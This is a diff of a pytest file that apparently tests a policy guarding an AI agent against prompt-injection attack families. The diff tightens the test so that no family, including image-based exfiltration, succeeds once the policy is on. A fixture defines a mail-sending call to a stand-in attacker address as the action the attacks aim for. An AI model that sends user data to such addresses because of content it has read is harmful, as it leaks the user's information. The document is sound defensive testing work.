@@ -18,8 +18,6 @@ from openbook.values import Label
 
 MAIL = Wanted("send_mail", {"to": "eve@attacker.example", "subject": "x", "body": "y"})
 ASKING = Policy(effects=POLICY.effects, tainted="ask")
-NOT_STOPPED = {"out by an image"}
-"""What a letter or a page says is content, which a policy lets be made of anything."""
 
 
 def run(folder: Path, guarded: Guarded, attack: Obedient, budget: Budget | None = None) -> list[Tried]:
@@ -63,10 +61,10 @@ def test_an_attack_may_wait_come_first_be_cut_off_or_run_out_of_calls(tmp_path: 
 
 
 @pytest.mark.parametrize("family", FAMILIES, ids=lambda family: family.name)
-def test_every_family_succeeds_without_a_policy(family: Family, tmp_path: Path) -> None:
+def test_every_family_succeeds_without_a_policy_and_none_with_it(family: Family, tmp_path: Path) -> None:
     for number, case in enumerate(list(cases(family))[::4]):
         assert tried(case, None, tmp_path / f"off{number}")[0]
-        assert tried(case, POLICY, tmp_path / f"on{number}")[0] == (family.name in NOT_STOPPED)
+        assert not tried(case, POLICY, tmp_path / f"on{number}")[0]
 
 
 def test_a_recorded_call_is_stopped_where_only_what_was_read_asks_for_it() -> None:
